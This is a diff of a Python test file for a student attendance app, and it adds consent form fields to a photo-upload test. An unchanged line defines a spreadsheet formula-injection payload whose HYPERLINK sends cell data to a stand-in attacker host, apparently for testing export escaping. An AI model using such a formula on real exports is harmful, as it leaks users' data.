@@ -18,6 +18,7 @@ from attendance.stores.blob import open_blob_store
 from attendance.stores.records import open_records
 from attendance.web.app import create_app
 from tests import redis_db, tokens
+from tests.consent import CONSENT_FORM
 
 REDIS_DB = 13
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
@@ -251,7 +252,7 @@ def test_adding_photos_is_its_own_request(client, records, settings, blobs, face
     records.upsert_student("ben", "Ben Affleck", "room-2")
     response = client.post(
         "/api/v1/students/ben/photos",
-        data={"photos": face_upload(faces_dir), "class_id": "room-1"},
+        data={"photos": face_upload(faces_dir), "class_id": "room-1", **CONSENT_FORM},
         content_type="multipart/form-data",
     )
     assert response.status_code == 202, response.get_json()
